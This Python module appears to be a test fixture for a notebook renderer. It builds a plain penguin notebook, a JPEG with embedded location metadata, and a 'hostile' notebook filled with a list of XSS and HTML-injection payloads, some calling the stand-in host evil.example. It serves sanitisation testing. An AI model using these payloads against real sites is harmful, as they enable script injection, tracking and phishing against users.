"""Works that pupils have: a hostile notebook, a plain one, a photo that says where it was taken.

Called by tests of what is shown.
"""

import base64
import io
import json
from typing import Any

from PIL import Image

SECRET = "53.1N-36.6E"
"""Where the photo was taken."""


def photo(width: int = 400, height: int = 300) -> bytes:
    """A JPEG as a phone makes it: with a place, a comment, and turned by its metadata."""
    exif = Image.Exif()
    exif[0x010E] = SECRET
    exif[0x0112] = 6  # to be turned by 90 degrees
    exif.get_ifd(0x8825)[29] = SECRET
    made = io.BytesIO()
    image = Image.new("RGB", (width, height), "orange")
    image.save(made, "JPEG", exif=exif, comment=SECRET.encode())
    return made.getvalue()


def plot() -> bytes:
    """A PNG as a plot in a notebook is one."""
    made = io.BytesIO()
    Image.new("RGBA", (60, 40), (0, 105, 107, 128)).save(made, "PNG")
    return made.getvalue()


def inline(content: bytes) -> str:
    return base64.b64encode(content).decode()


def markdown(text: str, **attachments: dict[str, str]) -> dict[str, Any]:
    cell: dict[str, Any] = {"cell_type": "markdown", "metadata": {}, "source": text}
    return cell | ({"attachments": attachments} if attachments else {})


def code(text: str, *outputs: dict[str, Any]) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "source": text,
        "outputs": list(outputs),
    }


def display(**data: str) -> dict[str, Any]:
    kinds = {name.replace("__", "+").replace("_", "/", 1): value for name, value in data.items()}
    return {"output_type": "display_data", "metadata": {}, "data": kinds}


def notebook(*cells: dict[str, Any], **metadata: Any) -> bytes:
    """A notebook (nbformat 4.5) with these cells."""
    named = [cell | {"id": f"cell-{number}"} for number, cell in enumerate(cells)]
    content = {"cells": named, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(content, ensure_ascii=False).encode()


PENGUINS = notebook(
    markdown("# Мои пингвины\n\nСредняя масса — **4 кг**."),
    code("mean = 4.2\nprint(mean)", {"output_type": "stream", "name": "stdout", "text": "4.2\n"}),
    code("plot()", display(image_png=inline(plot()), text_plain="<Figure>")),
)
"""What somebody would like to show."""

HOSTILE_TEXTS = (
    "<script>alert('ran')</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<iframe src='https://evil.example/frame'></iframe>",
    "<img src=x onerror=alert('ran')>",
    "<img src='https://evil.example/pixel.png'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<svg onload=alert('ran')><script>alert('ran')</script><image href='https://evil.example/i'/></svg>",
    "<style>@import 'https://evil.example/s.css'; body { display: none }</style>",
    "<div style='position: fixed; background: url(https://evil.example/b)'>over all</div>",
    "<a href=\"javascript:alert('ran')\">press</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>press</a>",
    "<a href='https://evil.example/' target='_blank' ping='https://evil.example/p'>press</a>",
    "<form action='https://evil.example/'><input name=words><button>Sign in</button></form>",
    "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/s.css'>",
    "<video src='https://evil.example/v'></video><audio src='https://evil.example/a'></audio>",
    '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x&gt;">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert('ran')>\"></noscript>",
    "<table background='https://evil.example/t'><tr><td onclick=alert('ran')>1</td></tr></table>",
    "</main></body><script>alert('ran')</script>",
    "<p id=main class='button danger' onmouseover=alert('ran') data-x=1>text</p>",
    "[press](javascript:alert('ran')) ![see](https://evil.example/m.png) <https://evil.example/>",
    "[press](data:text/html,<script>alert('ran')</script>)",
)


def hostile() -> bytes:
    """Everything that is known to break out of a notebook, in every place that a notebook has."""
    cells = [markdown(text) for text in HOSTILE_TEXTS]
    cells += [
        code(
            text,
            display(text_html=text, text_plain=text),
            display(text_markdown=text),
            display(text_latex=text),
            {"output_type": "stream", "name": "stdout", "text": text},
            {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
        )
        for text in HOSTILE_TEXTS
    ]
    cells += [
        code("svg", display(image_svg__xml="<svg onload=alert('ran')></svg>", text_plain="svg")),
        code("js", display(application_javascript="alert('ran')")),
        code("pdf", display(application_pdf=inline(b"%PDF-"))),
        code("no picture", display(image_png="\"><script>alert('ran')</script>")),
        {
            "cell_type": "raw",
            "metadata": {"raw_mimetype": "text/html"},
            "source": "<script>alert('ran')</script>",
        },
    ]
    return notebook(*cells, title="</title><script>alert('ran')</script>")
